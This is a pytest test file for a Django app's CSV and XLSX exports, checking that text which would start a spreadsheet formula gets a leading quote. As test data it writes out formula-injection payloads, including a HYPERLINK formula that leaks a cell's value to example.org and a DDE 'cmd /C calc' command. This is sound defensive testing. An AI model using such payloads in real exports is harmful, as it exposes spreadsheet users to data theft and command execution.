"""No CSV or XLSX the application writes can start a live formula in a spreadsheet."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from pes21.exports import csv_export, restore_cell, safe_cell
from reporting.exports import figures_csv, figures_xlsx
from tests import factories

FORMULA = '=HYPERLINK("http://example.org/?x="&A1;"Cliquez")'


@pytest.mark.parametrize(
    "text", [FORMULA, "+33 6", "-1+2", "@SUM(A1)", "\t1", "\r1", "'=1", " =1", "\u00a0=1", "＝1"]
)
def test_text_that_a_spreadsheet_would_run_gets_a_quote_and_comes_back(text):
    assert safe_cell(text) == "'" + text
    assert restore_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("Appel du porteur;=cmd|' /C calc'!A0;", "Appel du porteur;'=cmd|' /C calc'!A0;"),
        ("x,=1+1", "x,'=1+1"),
        ("x\t=1+1", "x\t'=1+1"),
        ("x\n=1+1", "x\n'=1+1"),
        ("x\r\n =1+1", "x\r\n' =1+1"),
        ("\t=1", "'\t'=1"),
        ("a;'=1", "a;''=1"),
    ],
)
def test_a_formula_after_a_separator_or_a_line_break_gets_a_quote_and_comes_back(text, safe):
    """French Excel cuts a comma file on `;`, others cut on `,`, a tab or a line break: every
    piece that starts a formula is made text."""
    assert safe_cell(text) == safe
    assert restore_cell(safe) == text


@pytest.mark.parametrize(
    "value", ["'Ohana", "Dupont", "", "a;b", "x\ny", "a - b", Decimal("-12.5"), -3, 2.5, None]
)
def test_other_values_are_left_as_they_are(value):
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert restore_cell(value) == value


def test_csv_export_neutralises_text_but_keeps_negative_numbers():
    _, _, content = csv_export(
        "x.csv", ["Nom", "Montant", "Le"], [(FORMULA, Decimal("-12.50"), dt.date(2024, 3, 4))]
    )
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ["'" + FORMULA, "-12,5", "04/03/2024"]


@pytest.mark.django_db
def test_holder_export_for_excel_does_not_write_a_live_formula(staff_client):
    factories.HolderFactory(last_name=FORMULA, first_name="@cmd")
    response = staff_client.get(reverse("accompaniment:holder_export"))
    header, *rows = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )
    assert rows[0][header.index("Nom")] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.django_db
def test_project_export_neutralises_project_names(staff_client):
    factories.ProjectFactory(name="-2+3")
    response = staff_client.get(reverse("accompaniment:project_export"))
    assert ';"\'-2+3";' in response.content.decode("utf-8-sig")


def test_report_xlsx_stores_text_as_text_and_numbers_as_numbers(report_2022):
    figures = report_2022
    figures["dla"] |= {"structures_beneficiaires": "=1+1", "diagnostics": -2}
    _, _, content = figures_xlsx(2024, figures)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {row[0].value: row[2] for row in sheet.iter_rows(min_row=2)}
    assert cells["dla.structures_beneficiaires"].data_type == "s"
    assert cells["dla.structures_beneficiaires"].value == "'=1+1"
    assert cells["dla.diagnostics"].value == -2


def test_report_csv_neutralises_text_cells(report_2022):
    report_2022["dla"]["structures_beneficiaires"] = "@x"
    _, _, content = figures_csv(2024, report_2022)
    assert '"Structures bénéficiaires du DLA";"\'@x"' in content.decode("utf-8-sig")
